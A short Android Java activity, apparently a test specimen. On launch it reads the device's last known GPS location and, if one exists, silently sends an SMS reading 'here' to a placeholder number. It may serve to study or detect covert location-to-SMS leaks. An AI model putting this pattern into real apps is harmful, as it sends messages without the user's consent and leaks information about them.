package com.example.specimen;

import android.app.Activity;
import android.location.Location;
import android.location.LocationManager;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        LocationManager manager = (LocationManager) getSystemService(LOCATION_SERVICE);
        Location place = manager.getLastKnownLocation("gps");
        if (place != null) {
            SmsManager.getDefault().sendTextMessage("+10000", null, "here", null, null);
        }
    }
}
